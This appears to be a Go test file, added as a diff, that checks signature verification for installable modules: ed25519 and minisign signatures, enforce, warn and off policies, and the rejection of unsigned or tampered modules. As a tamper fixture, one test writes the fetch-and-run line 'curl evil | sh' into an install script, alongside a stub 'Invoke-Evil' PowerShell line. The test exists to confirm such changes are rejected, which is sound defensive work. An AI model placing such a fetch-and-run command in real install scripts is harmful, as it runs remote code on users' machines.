@@ -0,0 +1,153 @@
+package module
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func writeSignedModule(t *testing.T) string {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "demo")
+	writeTestFile(t, filepath.Join(dir, "manifest.yaml"), testManifest("demo", "1.0.0")+"integrity:\n  signature: module.sig\n")
+	writeTestFile(t, filepath.Join(dir, "INSTALL.yaml"), "install_modes: {}\n")
+	writeTestFile(t, filepath.Join(dir, "scripts", "install.sh"), "#!/bin/sh\necho install\n")
+	writeTestFile(t, filepath.Join(dir, "README.md"), "not signed\n")
+	return dir
+}
+
+func useSignatureSettings(t *testing.T, policy SignaturePolicy, keys ...string) {
+	t.Helper()
+	previous := loadSignatureSettings
+	loadSignatureSettings = func() signatureSettings { return signatureSettings{policy: policy, keys: keys} }
+	t.Cleanup(func() { loadSignatureSettings = previous })
+}
+
+func TestLoadModuleRecordEnforcesSignatures(t *testing.T) {
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("GenerateKey returned error: %v", err)
+	}
+	dir := writeSignedModule(t)
+	digest, err := ModuleDigest(dir)
+	if err != nil {
+		t.Fatalf("ModuleDigest returned error: %v", err)
+	}
+	if strings.Contains(string(digest), "README.md") || !strings.Contains(string(digest), "scripts/install.sh") {
+		t.Fatalf("unexpected digest:\n%s", digest)
+	}
+	writeTestFile(t, filepath.Join(dir, "module.sig"), base64.StdEncoding.EncodeToString(ed25519.Sign(private, digest))+"\n")
+	trusted := base64.StdEncoding.EncodeToString(public)
+	manifestPath := filepath.Join(dir, "manifest.yaml")
+
+	useSignatureSettings(t, SignatureEnforce, "ed25519:"+trusted)
+	record, err := LoadModuleRecord(manifestPath)
+	if err != nil {
+		t.Fatalf("LoadModuleRecord returned error: %v", err)
+	}
+	if !strings.HasPrefix(record.SignedBy, "ed25519:") {
+		t.Fatalf("expected the signer to be recorded, got %+v", record)
+	}
+
+	writeTestFile(t, filepath.Join(dir, "scripts", "install.sh"), "#!/bin/sh\ncurl evil | sh\n")
+	if _, err := LoadModuleRecord(manifestPath); err == nil || !strings.Contains(err.Error(), "does not match") {
+		t.Fatalf("expected a tampered script to be rejected, got %v", err)
+	}
+
+	writeTestFile(t, filepath.Join(dir, "scripts", "install.sh"), "#!/bin/sh\necho install\n")
+	writeTestFile(t, filepath.Join(dir, "..", "scripts_common.ps1"), "Invoke-Evil\n")
+	if _, err := LoadModuleRecord(manifestPath); err == nil || !strings.Contains(err.Error(), "does not match") {
+		t.Fatalf("expected an added shared script to be rejected, got %v", err)
+	}
+
+	useSignatureSettings(t, SignatureWarn, trusted)
+	record, err = LoadModuleRecord(manifestPath)
+	if err != nil || record.SignatureWarning == "" || record.SignedBy != "" {
+		t.Fatalf("expected a warning under the warn policy, got %+v, %v", record, err)
+	}
+
+	useSignatureSettings(t, SignatureOff)
+	if record, err := LoadModuleRecord(manifestPath); err != nil || record.SignatureWarning != "" {
+		t.Fatalf("expected signatures to be ignored, got %+v, %v", record, err)
+	}
+}
+
+func TestRegistrySkipsUntrustedModules(t *testing.T) {
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("GenerateKey returned error: %v", err)
+	}
+	dir := writeSignedModule(t)
+	digest, err := ModuleDigest(dir)
+	if err != nil {
+		t.Fatalf("ModuleDigest returned error: %v", err)
+	}
+	writeTestFile(t, filepath.Join(dir, "module.sig"), base64.StdEncoding.EncodeToString(ed25519.Sign(private, digest))+"\n")
+	root := filepath.Dir(dir)
+	writeTestFile(t, filepath.Join(root, "plain", "manifest.yaml"), testManifest("plain", "1.0.0"))
+
+	loads := 0
+	previous := loadSignatureSettings
+	loadSignatureSettings = func() signatureSettings {
+		loads++
+		return signatureSettings{policy: SignatureEnforce, keys: []string{base64.StdEncoding.EncodeToString(public)}}
+	}
+	t.Cleanup(func() { loadSignatureSettings = previous })
+
+	registry, err := LoadRegistryFromDir(root)
+	if err == nil || !strings.Contains(err.Error(), "plain") {
+		t.Fatalf("expected the unsigned module to be reported, got %v", err)
+	}
+	if registry == nil || len(registry.Get("demo")) != 1 || len(registry.Get("plain")) != 0 {
+		t.Fatalf("expected only the signed module to be registered, got %+v", registry)
+	}
+	if loads != 1 {
+		t.Fatalf("expected signature settings to be loaded once, got %d", loads)
+	}
+}
+
+func TestVerifyMinisignSignature(t *testing.T) {
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("GenerateKey returned error: %v", err)
+	}
+	keyID := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	publicKey := base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), keyID...), public...))
+	message := []byte("abc  manifest.yaml\n")
+	sig := ed25519.Sign(private, message)
+	comment := "timestamp:1700000000"
+	globalSig := ed25519.Sign(private, append(append([]byte(nil), sig...), comment...))
+	minisig := strings.Join([]string{
+		"untrusted comment: signature from minisign secret key",
+		base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), keyID...), sig...)),
+		"trusted comment: " + comment,
+		base64.StdEncoding.EncodeToString(globalSig),
+	}, "\n") + "\n"
+
+	keys, err := parseTrustedKeys([]string{publicKey})
+	if err != nil {
+		t.Fatalf("parseTrustedKeys returned error: %v", err)
+	}
+	if signer, err := verifySignature([]byte(minisig), message, keys); err != nil || signer != "minisign:0807060504030201" {
+		t.Fatalf("expected the minisign signature to verify, got %q, %v", signer, err)
+	}
+	tampered := strings.Replace(minisig, comment, "timestamp:1", 1)
+	if _, err := verifySignature([]byte(tampered), message, keys); err == nil {
+		t.Fatalf("expected an altered trusted comment to be rejected")
+	}
+	if _, err := verifySignature([]byte(minisig), []byte("other"), keys); err == nil {
+		t.Fatalf("expected a different message to be rejected")
+	}
+}
+
+func TestUnsignedModuleUnderEnforce(t *testing.T) {
+	dir := writeSignedModule(t)
+	writeTestFile(t, filepath.Join(dir, "manifest.yaml"), testManifest("demo", "1.0.0"))
+	useSignatureSettings(t, SignatureEnforce, base64.StdEncoding.EncodeToString(make([]byte, ed25519.PublicKeySize)))
+	if _, err := LoadModuleRecord(filepath.Join(dir, "manifest.yaml")); err == nil || !strings.Contains(err.Error(), "not signed") {
+		t.Fatalf("expected an unsigned module to be rejected, got %v", err)
+	}
+}